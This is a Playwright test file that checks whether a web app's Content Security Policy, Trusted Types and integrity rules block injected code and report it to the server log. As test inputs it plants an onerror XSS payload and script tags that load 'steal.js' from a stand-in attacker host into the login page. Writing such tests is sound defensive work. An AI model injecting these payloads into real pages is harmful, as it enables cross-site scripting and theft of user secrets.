import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures';

// policyGuard fails every test in which a page violates the policies.
/** Collects violations of later pages in `window.refused` and hides them from the guard. */
async function expectViolations(page: Page) {
  await page.addInitScript(() => {
    const refused = new Set<string>();
    Object.assign(window, { refused });
    document.addEventListener(
      'securitypolicyviolation',
      (event) => {
        // Expected here: stops the event before the guard's listener.
        event.stopImmediatePropagation();
        refused.add(`${event.effectiveDirective} ${event.blockedURI}`);
      },
      { capture: true },
    );
    const observer = new ReportingObserver(
      (reports) => {
        for (const { body } of reports) {
          // TypeScript's DOM library lacks this type of report.
          const { blockedURL, destination } = body as unknown as Record<string, string>;
          refused.add(`integrity of ${String(destination)} ${String(blockedURL)}`);
        }
      },
      { types: ['integrity-violation'], buffered: true },
    );
    observer.observe();
  });
  return {
    read: () =>
      page.evaluate(() => {
        // Set by the observer above; TypeScript cannot see across evaluations.
        const { refused } = window as unknown as { refused: ReadonlySet<string> };
        return [...refused].sort();
      }),
  };
}

test('the policies block text as code, HTML or script URL, and files from other origins', async ({
  page,
}) => {
  const refused = await expectViolations(page);
  await page.goto('/');

  const results = await page.evaluate(() => {
    function attempt(plant: () => unknown): string {
      try {
        plant();
        return 'done';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : String(error);
      }
    }
    const loadScript = (src: string) => {
      const script = document.createElement('script');
      script.src = src;
      document.head.append(script);
    };
    // TypeScript's DOM library lacks this type.
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
    };
    const plants: Record<string, () => unknown> = {
      html: () => (document.body.innerHTML = '<img src=x onerror="document.title = 1">'),
      'inline script': () => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "planted"';
        document.head.append(script);
      },
      'event handler': () => {
        document.body.setAttribute('onclick', 'document.title = "planted"');
      },
      'foreign script': () => {
        loadScript('https://evil.example/areas/planted.js');
      },
      'own address that is no release': () => {
        loadScript('/api/openapi.json');
      },
      'policy of somebody else': () => trustedTypes.createPolicy('planted', {}),
      'second default policy': () => trustedTypes.createPolicy('default', {}),
      // oxlint-disable-next-line typescript/no-implied-eval -- The policy must block it.
      'text of a timer': () => setTimeout('document.title = "planted"'),
      'inline style': () => {
        const style = document.createElement('style');
        style.textContent = 'body { display: none }';
        document.head.append(style);
      },
      'foreign image': () => {
        const image = document.createElement('img');
        image.src = 'https://example.com/pixel.png';
        document.body.append(image);
      },
    };
    return Object.entries(plants).map(([name, plant]) => `${name}: ${attempt(plant)}`);
  });

  expect(results).toEqual([
    'html: refused',
    'inline script: refused',
    'event handler: refused',
    'foreign script: refused',
    'own address that is no release: refused',
    'policy of somebody else: refused',
    'second default policy: refused',
    'text of a timer: refused',
    'inline style: done',
    'foreign image: done',
  ]);
  await expect
    .poll(refused.read)
    .toEqual([
      'img-src https://example.com/pixel.png',
      'require-trusted-types-for trusted-types-sink',
      'style-src-elem inline',
      'trusted-types trusted-types-policy',
    ]);
  await expect(page).toHaveTitle('Login · Atrium');
});

test('injected scripts do not run and are reported to the server’s log', async ({
  page,
  product,
}) => {
  const refused = await expectViolations(page);
  let boot = '';
  await page.route('**/login?secret', async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    boot = /\/shell\/boot\.\w+\.js/.exec(html)?.[0] ?? '';
    const planted = [
      '<script>window.planted = "inline"</script>',
      '<script src="https://evil.example/steal.js?secret" crossorigin="anonymous"></script>',
      // A file of this server without its integrity hash.
      `<script src="${boot}?secret" crossorigin="anonymous"></script>`,
    ];
    await route.fulfill({ response, body: html.replace('<head>', `<head>${planted.join('')}`) });
  });
  const answered: string[] = [];
  page.on('response', (response) => answered.push(response.url()));
  await page.goto('/login?secret');
  await expect(page.getByRole('button', { name: 'Login' })).toBeVisible();

  await expect
    .poll(refused.read)
    .toEqual([
      `integrity of script ${product.origin}${boot}?secret`,
      'script-src-elem https://evil.example/steal.js?secret',
      'script-src-elem inline',
    ]);
  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
  expect(answered.filter((url) => url.includes('?secret'))).toEqual([
    `${product.origin}/login?secret`,
  ]);
  // Browsers report violations of Integrity-Policy only over TLS.
  const isLogged = (line: string) =>
    line.includes('"securityEvent":"policy_violation"') && line.includes('"page":"/login"');
  await expect
    .poll(() =>
      product.log
        .filter(isLogged)
        .map((line) => /"blocked":"([^"]+)"/.exec(line)?.[1])
        .sort(),
    )
    .toEqual(['evil.example/steal.js', 'inline']);
  expect(product.log.join()).not.toContain('secret');
});
